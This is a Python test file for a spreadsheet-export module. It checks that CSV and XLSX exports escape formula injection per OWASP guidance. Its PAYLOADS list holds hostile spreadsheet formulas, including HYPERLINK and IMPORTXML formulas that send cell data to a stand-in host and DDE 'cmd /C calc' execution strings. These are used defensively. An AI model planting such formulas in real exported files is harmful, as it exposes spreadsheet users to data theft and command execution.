"""Exports carry data, never formulas (OWASP "CSV Injection"): every text cell of the CSV and the
XLSX that could start a formula is neutralised, numbers stay numbers.

Every exported text field (option names, criterion names in the headers, the evidence's file name,
tool, label, model, engine, dataset, quality flags, parity task and metric ...) is filled with the
payloads below; the CSV is read back as a spreadsheet reads it (quoted fields are text, bare ones
numbers) and the XLSX with openpyxl."""

from __future__ import annotations

import csv
import dataclasses
import io
import shutil
from itertools import cycle
from pathlib import Path

import pytest

from deepdecide.analysis import evaluate
from deepdecide.cli.main import main
from deepdecide.domain.evidence import (
    BenchmarkRun,
    Evidence,
    EvidenceFile,
    ParityCheck,
    ParityKind,
    Provenance,
    Verdict,
)
from deepdecide.domain.messages import plain
from deepdecide.report import spreadsheet as sheet
from deepdecide.storage import files

openpyxl = pytest.importorskip("openpyxl")

REPO = Path(__file__).resolve().parents[2]
SMALL = REPO / "tests" / "fixtures" / "report" / "small.deepdecide.yaml"
SAMPLE_RUNS = REPO / "data" / "samples" / "evidence" / "sglang_dsv4_flash_h100_tp8_fp4_illustrative.jsonl"

#: the OWASP CSV-injection payloads (owasp.org/www-community/attacks/CSV_Injection: cells starting
#: with = + - @, tab, carriage return, line feed; its two escaping examples), the classic DDE and
#: exfiltration formulas, the issue's HYPERLINK, leading spaces, NUL (ASVS 1.2.10) and the
#: full-width forms of = + - @
PAYLOADS: tuple[str, ...] = (
    '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"details")',
    "=1+2",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    "=cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    '=IMPORTXML(CONCAT("http://127.0.0.1:9/?v=", A1), "//a")',
    "+1+2",
    "+cmd|' /C calc'!A0",
    "-1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+2)",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    "\x00=1+2",
    " =1+2",
    "\u00a0=1+2",
    "\uff1d1+2",  # full-width =
    "\uff0b1+2",  # full-width +
    "\uff0d1+2",  # full-width -
    "\uff20SUM(1+2)",  # full-width @
    "-5",  # text that looks like a negative number is still text
)


def payloads():
    return cycle(PAYLOADS)


def _hostile_text(obj, source):
    """``obj`` (a dataclass) with every plain text field set to the next payload."""
    changes = {}
    for f in dataclasses.fields(obj):
        if f.type == "str" and isinstance(getattr(obj, f.name), str):
            changes[f.name] = next(source)
    return dataclasses.replace(obj, **changes)


@pytest.fixture(scope="module")
def hostile():
    """The report fixture with a payload in every text field that reaches an export."""
    ws = files.load_workspace(SMALL)
    source = payloads()
    options = tuple(dataclasses.replace(o, name=next(source)) for o in ws.options)
    criteria = tuple(dataclasses.replace(c, name=next(source)) for c in ws.criteria)
    run = BenchmarkRun(tool="vllm", runtime="vllm", platform="h100-sxm", gpu_count=8, concurrency=16, output_throughput_tps=1234.5,
                       ttft_ms_p99=812.0, tpot_ms_p99=41.5)
    check = ParityCheck(kind=ParityKind.EVAL_ACCURACY, value=0.81, reference_value=0.83, delta=-0.02,
                        verdict=Verdict.FAIL)
    evidence = []
    for i in range(4):
        provenance = _hostile_text(Provenance(file_name="", size_bytes=1000 + i, sha256=f"{i:064x}", tool=""), source)
        evidence.append(EvidenceFile(
            provenance=provenance,
            runs=(dataclasses.replace(_hostile_text(run, source), quality_flags=(plain(next(source)),)),),
            parity=(dataclasses.replace(_hostile_text(check, source), tolerance=plain(next(source))),)))
    ws = dataclasses.replace(ws, options=options, criteria=criteria,
                             evidence=Evidence(files=(*ws.evidence.files, *evidence)))
    a = evaluate(ws, sensitivity=False, monte_carlo=True, draws=200)
    return ws, [sheet.comparison_table(ws, a), sheet.evidence_table(ws, a), sheet.parity_table(ws, a)]


def _text_cells(table: sheet.Table):
    yield from ((f"{table.name} header {i + 1}", h) for i, h in enumerate(table.headers))
    for r, row in enumerate(table.rows):
        for c, v in enumerate(row):
            if isinstance(v, str):
                yield f"{table.name} row {r + 1} {table.headers[c]}", v


def test_every_exported_text_field_carries_a_payload(hostile):
    """The fixture reaches what it means to test: payloads in the option names, the criteria (the
    headers), the evidence's file name, tool, label and the runs' and checks' text fields."""
    _ws, tables = hostile
    seen = {text for t in tables for _place, text in _text_cells(t)}
    carried = {p for p in PAYLOADS if any(p in s for s in seen)}
    assert carried == set(PAYLOADS)
    comparison, evidence, parity = tables
    assert all(n in PAYLOADS for n in comparison.column(comparison.headers[3]))  # the option names
    for column in ("file_name", "file_tool", "file_label", "model", "label"):
        assert any(v in PAYLOADS for v in evidence.column(column)), column
    assert any(v in PAYLOADS for v in parity.column("task"))


def _spreadsheet_csv(data: bytes) -> list[list[object]]:
    """The CSV as a spreadsheet reads it: a quoted field is text, a bare one a number."""
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), quoting=csv.QUOTE_NONNUMERIC))


def test_csv_text_cells_that_could_start_a_formula_begin_with_a_quote_and_numbers_stay_numbers(hostile):
    _ws, tables = hostile
    for table in tables:
        rows = _spreadsheet_csv(sheet.csv_bytes(table))
        assert rows[0] == [sheet.neutralise(h) for h in table.headers]
        assert len(rows) == len(table.rows) + 1
        for got, want in zip(rows[1:], table.rows, strict=True):
            for g, w, h in zip(got, want, table.headers, strict=True):
                if isinstance(w, bool):
                    assert g == ("true" if w else "false"), h
                elif isinstance(w, (int, float)):
                    assert isinstance(g, float) and g == pytest.approx(w, rel=1e-14), h  # a number, unquoted
                elif w is None:
                    assert g == "", h
                else:
                    assert isinstance(g, str), h
                    if w in PAYLOADS or sheet.starts_formula(w):
                        assert g == "'" + w, (h, w)  # the single quote: read as text
                    else:
                        assert g == w, h
        for row in rows:
            for g in row:
                assert not (isinstance(g, str) and sheet.starts_formula(g)), g


def test_xlsx_has_no_formula_and_every_text_reads_back_as_written(hostile, tmp_path):
    _ws, tables = hostile
    out = tmp_path / "hostile.xlsx"
    sheet.write_xlsx(tables, out)
    wb = openpyxl.load_workbook(out)
    assert [s.title for s in wb] == [t.name for t in tables]
    for table, ws in zip(tables, wb, strict=True):
        cells = list(ws.iter_rows())
        assert [c.value for c in cells[0]] == list(table.headers)
        for row_cells, want in zip(cells[1:], table.rows, strict=True):
            for cell, w in zip(row_cells, want, strict=True):
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(w, str) and "\x00" not in w:
                    assert cell.data_type in ("s", "inlineStr") and cell.value == (w or None), cell.coordinate  # the text unchanged (empty: no value)
                    assert bool(cell.quotePrefix) == sheet.starts_formula(w), cell.coordinate
                elif isinstance(w, str):  # XML cannot hold NUL: shown as an escape, never a formula
                    assert cell.data_type in ("s", "inlineStr") and cell.value == w.replace("\x00", "\\x00")
                elif isinstance(w, bool):
                    assert cell.value is w
                elif isinstance(w, (int, float)):
                    assert cell.data_type == "n" and cell.value == pytest.approx(w), cell.coordinate
    assert not any(c.data_type == "f" for s in wb for row in s.iter_rows() for c in row)


def test_a_negative_number_is_a_number_and_text_that_looks_like_one_is_text(tmp_path):
    table = sheet.Table("T", ("number", "text", "error-looking text"), ((-5, "-5", "#N/A"), (-0.25, "=1", "#REF!")))
    rows = _spreadsheet_csv(sheet.csv_bytes(table))
    assert rows[1:] == [[-5.0, "'-5", "#N/A"], [-0.25, "'=1", "#REF!"]]
    raw = sheet.csv_bytes(table).decode("utf-8")
    assert "\r\n-5,\"'-5\",\"#N/A\"\r\n" in raw  # numbers bare, text quoted
    out = tmp_path / "t.xlsx"
    sheet.write_xlsx([table], out)
    ws = openpyxl.load_workbook(out).active
    assert [(c.value, c.data_type) for c in ws[2]] == [(-5, "n"), ("-5", "s"), ("#N/A", "s")]
    assert [(c.value, c.data_type) for c in ws[3]] == [(-0.25, "n"), ("=1", "s"), ("#REF!", "s")]


def test_the_one_rule():
    for p in PAYLOADS:
        assert sheet.starts_formula(p) and sheet.neutralise(p) == "'" + p
    for text in ("", "vllm", "H100 SXM", "'=already quoted", "1+2", "a=b", "#N/A", "—"):
        assert sheet.neutralise(text) == text


def _cli(argv: list[str], capsys) -> tuple[int, str, str]:
    code = main(argv)
    out, err = capsys.readouterr()
    return code, out, err


def test_import_label_hyperlink_never_becomes_a_formula(tmp_path, capsys):
    """The issue's case: ``import … --label '=HYPERLINK(...)'`` then ``export`` (and a file named
    like a formula, and an option name that is one)."""
    label = PAYLOADS[0]
    ws_path = tmp_path / "w.deepdecide.yaml"
    ws = files.load_workspace(SMALL)
    ws = dataclasses.replace(ws, options=(dataclasses.replace(ws.options[0], name="@SUM(1+1)"), *ws.options[1:]))
    files.save_workspace(ws, ws_path)
    result = tmp_path / "+cmd(1).jsonl"
    shutil.copy(SAMPLE_RUNS, result)
    code, _out, err = _cli(["import", str(result), "--into", str(ws_path), "--label", label, "--kind", "third-party"],
                           capsys)
    assert code == 0, err
    xlsx, evidence_csv, comparison_csv = tmp_path / "o.xlsx", tmp_path / "e.csv", tmp_path / "c.csv"
    code, out, err = _cli(["export", str(ws_path), "--xlsx", str(xlsx), "--evidence", str(evidence_csv),
                           "--comparison", str(comparison_csv), "--no-monte-carlo"], capsys)
    assert code == 0, err
    wb = openpyxl.load_workbook(xlsx)
    assert not any(c.data_type == "f" for s in wb for row in s.iter_rows() for c in row)
    head = [c.value for c in wb["Evidence"][1]]
    labels = [row[head.index("file_label")] for row in wb["Evidence"].iter_rows(min_row=2)]
    mine = [c for c in labels if c.value == label]
    assert mine and all(c.data_type == "s" and c.quotePrefix for c in mine)
    names = [row[head.index("file_name")].value for row in wb["Evidence"].iter_rows(min_row=2)]
    assert "+cmd(1).jsonl" in names
    rows = list(csv.DictReader(io.StringIO(evidence_csv.read_bytes().decode("utf-8")[1:])))
    mine_csv = [r for r in rows if r["file_label"].endswith(label[1:])]
    assert mine_csv and all(r["file_label"] == "'" + label and r["file_name"] == "'+cmd(1).jsonl" for r in mine_csv)
    comparison = list(csv.DictReader(io.StringIO(comparison_csv.read_bytes().decode("utf-8")[1:])))
    assert "'@SUM(1+1)" in [r["name"] for r in comparison]
    assert [c.value for c in wb["Comparison"]["D"]].count("@SUM(1+1)") == 1


def test_no_other_writer_of_tables_exists():
    """The GUI's File ▸ Export calls ``spreadsheet.write_csv`` / ``write_xlsx`` (the rule lives in
    one Qt-free place): no other writer of tables exists."""
    gui = (REPO / "deepdecide" / "gui" / "table_export.py").read_text()
    assert "sheet.write_xlsx(" in gui and "sheet.write_csv(" in gui
    for path in (REPO / "deepdecide").rglob("*.py"):
        if path.name != "spreadsheet.py":
            text = path.read_text()
            assert "csv.writer(" not in text and "openpyxl" not in text.replace("needs openpyxl", ""), path
